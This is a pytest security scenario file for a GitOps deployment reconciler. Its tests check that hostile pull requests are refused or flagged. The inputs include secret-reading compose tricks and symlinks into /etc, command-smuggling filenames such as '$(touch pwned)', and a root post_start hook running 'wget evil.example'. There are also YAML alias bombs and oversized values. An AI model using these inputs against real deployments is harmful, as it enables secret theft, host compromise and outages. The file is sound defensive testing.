"""What somebody with a write account tries beside the approval itself: to read the control plane's disk, to get onto a
host beside what a reviewer saw, and to stop it for everybody else. On real engines, SSH, git and the embedded forge.

The ways around the approval are played in test_the_gate.py.
"""

from __future__ import annotations

import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.scenarios.conftest import stages
from tests.scenarios.stage import FILES, PRODUCTION, SPARE, Stage, greet, replace

COMPOSE = "projects/app/compose.yaml"
SERVICES = FILES[COMPOSE].replace(
    'command: [sleep, "100000"]\n', 'command: [sleep, "100000"]\n            volumes: ["./data:/data"]\n'
)
HEALING = FILES["projects/app/spare/environment.yaml"].rstrip() + "\n        drift: heal\n"
MARK = "hunter2-of-the-control-plane"


@pytest.fixture(scope="module")
def stage() -> Iterator[Stage]:
    """One stage for all: production, and a spare environment on another host that heals. The worker has data."""
    with stages() as make:
        yield make(**{COMPOSE: SERVICES, "projects/app/spare/environment.yaml": HEALING})


@pytest.fixture(scope="module")
def secret() -> Iterator[Path]:
    """Files of the control plane's machine that everybody there may read, so that only we stand in the way."""
    with tempfile.TemporaryDirectory(prefix="secret-") as name:
        directory = Path(name)
        directory.chmod(0o755)
        for file, text in (("secret.env", f"TOKEN={MARK}\n"), ("key.json", f'{{"key": "{MARK}"}}\n')):
            (directory / file).write_text(text)
            (directory / file).chmod(0o644)
        yield directory


# -- words of these scenarios --------------------------------------------------------------------------------------


def written(*parts: tuple[str, str]) -> Callable[[Path], None]:
    """An edit: these files, whole."""

    def edit(clone: Path) -> None:
        for path, text in parts:
            (clone / path).parent.mkdir(parents=True, exist_ok=True)
            (clone / path).write_text(text)

    return edit


def appended(path: str, text: str) -> Callable[[Path], None]:
    """An edit: more text at the end of one file."""

    def edit(clone: Path) -> None:
        (clone / path).write_text((clone / path).read_text() + text)

    return edit


def both(*edits: Callable[[Path], None]) -> Callable[[Path], None]:
    """An edit: several, one after the other."""

    def edit(clone: Path) -> None:
        for each in edits:
            each(clone)

    return edit


def run(stage: Stage) -> None:
    """Everything that is due; nobody's trick may make any of it fail."""
    report = stage.run()
    assert not report["failures"], report["failures"]


def plan_status(stage: Stage, number: int) -> tuple[str, str]:
    status = stage.author.statuses(stage.author.pull(number)["head"]["sha"])["reconciler/plan"]
    return status["state"], status["description"]


def said(stage: Stage, number: int) -> str:
    """Everything that we wrote on a pull request."""
    return "\n".join(comment["body"] for comment in stage.author.comments(number))


def close(stage: Stage, *numbers: int) -> None:
    for number in numbers:
        stage.author.api("PATCH", f"/pulls/{number}", state="closed")


def mounts(stage: Stage, container: str, host: str = "web-1") -> dict[str, str]:
    """Container path to host path of everything mounted."""
    found = stage.host(host).ask("GET", f"/containers/{container}/json")["Mounts"]
    return {mount["Destination"]: mount["Source"] for mount in found}


# -- to read what is not theirs --------------------------------------------------------------------------------------


def test_no_file_of_the_control_plane_gets_into_a_plan_or_onto_a_host(stage: Stage, secret: Path) -> None:
    chain = "".join(f"x-{n}: &a{n} {{<<: *a{n - 1}}}\n" for n in range(1, 70))
    deep = f"x-0: &a0 {{env_file: {secret}/secret.env}}\n{chain}services: {{spy: {{image: a, <<: *a69}}}}\n"
    include = appended(COMPOSE, "include: [deep.yaml]\n")
    tries = {
        "deep": both(include, written(("projects/app/deep.yaml", deep))),
        "plain": replace(COMPOSE, "  worker:\n", f"  worker:\n    env_file: {secret}/secret.env\n"),
        "label": replace(COMPOSE, "  worker:\n", f"  worker:\n    label_file: {secret}/secret.env\n"),
        "seccomp": replace(COMPOSE, "  worker:\n", f"  worker:\n    security_opt: ['seccomp={secret}/key.json']\n"),
        "config": both(
            replace(COMPOSE, "  worker:\n", "  worker:\n    configs: [stolen]\n"),
            appended(COMPOSE, f"configs:\n  stolen: {{file: {secret}/key.json}}\n"),
        ),
        "variable": replace(COMPOSE, "  worker:\n", "  worker:\n    environment: [HOME, PATH, PWD, DOCKER_CONFIG]\n"),
        "link": lambda clone: (clone / "projects/app/www/link").symlink_to(secret / "secret.env"),
    }
    numbers = {name: stage.deployer.propose(f"agent/read-{name}", name, edit)["number"] for name, edit in tries.items()}
    run(stage)
    for name, number in numbers.items():
        state, text = plan_status(stage, number)
        assert state == "failure", (name, text)
        assert MARK not in said(stage, number), name
    close(stage, *numbers.values())


# -- to get onto a host beside what was shown ------------------------------------------------------------------------


def test_a_link_that_a_container_planted_leads_to_nothing_when_it_is_mounted(stage: Stage) -> None:
    worker = "app-production-worker-1"
    stage.host().docker("exec", worker, "ln", "-sfn", "/etc", "/data/inner")
    number = stage.propose_and_approve(replace(COMPOSE, '"./data:/data"', '"./data/inner:/data"'), "agent/planted")
    stage.reviewer.merge(number, "squash")
    run(stage)
    assert stage.status()["sync"] == "Synced", stage.status()
    place = mounts(stage, worker)["/data"]
    assert place.endswith("/data/app/production/data%2Finner")
    assert Path(place).resolve() == Path(place), "the host's /etc is not what the container got"
    assert stage.host().docker("exec", worker, "ls", "-A", "/data").strip() == ""


def test_files_arrive_where_they_belong_whatever_they_are_called(stage: Stage) -> None:
    names = ("--help", "-rf", "$(touch pwned)", "a b'c\"d;e", "%2e%2e", "..hidden", "*", "ü")
    number = stage.propose_and_approve(written(*((f"projects/app/www/{name}", name) for name in names)), "agent/names")
    stage.reviewer.merge(number)
    run(stage)
    assert stage.status()["sync"] == "Synced", stage.status()
    web = "app-production-web-1"
    for name in names:
        assert stage.host().docker("exec", web, "cat", f"/www/{name}") == name
    # A name that could not be shown is refused before anybody is asked to approve it.
    number = stage.deployer.propose("agent/line", "line", written(("projects/app/www/a\nb", "x")))["number"]
    run(stage)
    assert plan_status(stage, number)[0] == "failure"
    close(stage, number)


def test_what_runs_beside_and_what_belongs_to_others_is_named_to_the_reviewer(stage: Stage) -> None:
    stage.host().docker("volume", "create", "someone-elses-data")
    edit = both(
        replace(COMPOSE, "  worker:\n", '  worker:\n    post_start: [{command: "wget evil.example", user: "0:0"}]\n'),
        replace(COMPOSE, '"./data/inner:/data"', '"data:/data"'),
        appended(COMPOSE, "volumes:\n  data: {external: true, name: someone-elses-data}\n"),
        greet("only a greeting"),
    )
    number = stage.deployer.propose("agent/beside", "Only a greeting", edit)["number"]
    run(stage)
    text = said(stage, number).replace("<!-- -->", "").replace("\\", "")
    assert "post_start runs wget evil.example" in text
    assert "privileged-hook [78]" in text
    assert "external-volume [80]" in text
    assert "someone-elses-data is data of somebody else on this host" in text
    close(stage, number)


def test_a_heal_brings_back_the_approved_image_and_not_what_its_tag_names_now(stage: Stage) -> None:
    host, web = stage.host("web-2"), "app-spare-web-1"
    approved = host.ask("GET", f"/containers/{web}/json")["Image"]
    host.docker("commit", web, "reconciler/sample:1.0")  # somebody moves the tag
    host.docker("rm", "--force", web)
    run(stage)
    status = stage.status(SPARE)
    assert "(gate 57)" in status["reason"], status
    assert web not in stage.containers(SPARE)
    assert stage.status(PRODUCTION)["sync"] == "Synced"
    host.docker("tag", approved, "reconciler/sample:1.0")
    for _ in range(30):  # a heal waits some seconds
        run(stage)
        if web in stage.containers(SPARE):
            break
        stage.later()
    assert host.ask("GET", f"/containers/{web}/json")["Image"] == approved


# -- to stop it for everybody ------------------------------------------------------------------------------------------


def test_hostile_pull_requests_fail_alone_and_an_honest_one_beside_them_is_planned(stage: Stage) -> None:
    host, policy = "hosts/web-1.yaml", "policy.yaml"
    environment = "projects/app/production/environment.yaml"
    aliases = "x-a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"x-{name}: &{name} [{','.join(['*' + before] * 9)}]\n"
        for before, name in zip("abcdefg", "bcdefgh", strict=True)
    )
    tries = {
        "digits": appended(host, f"port: {'9' * 5000}\n"),
        "half": appended(policy, '  - {id: odd, effect: deny, actions: [deploy], why: "\\ud800"}\n'),
        "nul": replace(environment, 'GREETING: "first"', 'GREETING: "a\\0b"'),
        "long": replace(environment, 'GREETING: "first"', f'GREETING: "{"x" * 200_000}"'),
        "inexact": replace(COMPOSE, "  worker:\n", "  worker:\n    pids_limit: 9007199254740993\n"),
        "aliases": appended(COMPOSE, aliases),
        "nested": appended(COMPOSE, "x-deep: " + "[" * 5000 + "]" * 5000 + "\n"),
        "values": appended(host, f"labels: [{'x,' * 100_000}]\n"),
    }
    numbers = {name: stage.deployer.propose(f"agent/{name}", name, edit)["number"] for name, edit in tries.items()}
    honest = stage.deployer.propose("agent/honest", "honest", greet("honest", "spare"))["number"]
    run(stage)
    assert plan_status(stage, honest)[0] == "success"
    for name, number in numbers.items():
        assert plan_status(stage, number)[0] == "failure", name
    close(stage, honest, *numbers.values())


# -- to be nobody ------------------------------------------------------------------------------------------------------


def test_a_reviewer_who_wrote_the_commit_before_the_last_250_is_found(stage: Stage) -> None:
    stage.reviewer.checkout("agent/many")
    stage.reviewer.git("commit", "--quiet", "--allow-empty", "--message", "by the reviewer")
    stage.reviewer.git("push", "--quiet", "origin", "HEAD:refs/heads/agent/many")
    stage.deployer.checkout("agent/many", start="origin/agent/many")
    parent = stage.deployer.git("rev-parse", "HEAD")
    tree = stage.deployer.git("rev-parse", "HEAD^{tree}")
    for number in range(251):
        parent = stage.deployer.git("commit-tree", tree, "-p", parent, "-m", f"commit {number}")
    stage.deployer.git("reset", "--quiet", "--hard", parent)
    greet("by many")(stage.deployer.clone)
    stage.deployer.commit("the change")
    stage.deployer.git("push", "--quiet", "origin", "HEAD:refs/heads/agent/many")
    opened = stage.deployer.api("POST", "/pulls", title="many", body="", head="agent/many", base="main")
    run(stage)
    stage.approve(opened["number"])
    assert 6 in stage.rules(opened["number"])
    close(stage, opened["number"])


# -- and on the deploy branch itself -----------------------------------------------------------------------------------


def test_what_cannot_be_read_on_the_deploy_branch_holds_and_does_not_crash(stage: Stage) -> None:
    before = stage.containers(), stage.containers(SPARE)
    sha = stage.operator.push("main", "Just this once", appended("hosts/web-1.yaml", f"port: {'9' * 5000}\n"))
    # names that lead elsewhere when they are taken for the branch
    stage.author.checkout("elsewhere")
    greet("elsewhere")(stage.author.clone)
    stage.author.commit("Elsewhere")
    for ref in ("refs/tags/main", f"refs/heads/{sha}", "refs/heads/refs/heads/main"):
        stage.author.git("push", "--quiet", "origin", f"HEAD:{ref}")
    run(stage)
    assert (stage.status()["hold"], stage.status()["commit"]) == ("Held", sha)
    assert (stage.containers(), stage.containers(SPARE)) == before
    assert stage.greeting() == "first"
    # An approved revert ends it.
    stage.author.checkout("revert/unreadable")
    stage.author.git("revert", "--no-edit", sha)
    stage.author.git("push", "--quiet", "origin", "HEAD:refs/heads/revert/unreadable")
    opened = stage.author.api("POST", "/pulls", title="Revert", body="", head="revert/unreadable", base="main")
    run(stage)
    stage.approve(opened["number"])
    stage.reviewer.merge(opened["number"])
    run(stage)
    assert {(stage.status(name)["hold"], stage.status(name)["sync"]) for name in (PRODUCTION, SPARE)} == {
        (None, "Synced")
    }
    assert (stage.containers(), stage.containers(SPARE)) == before
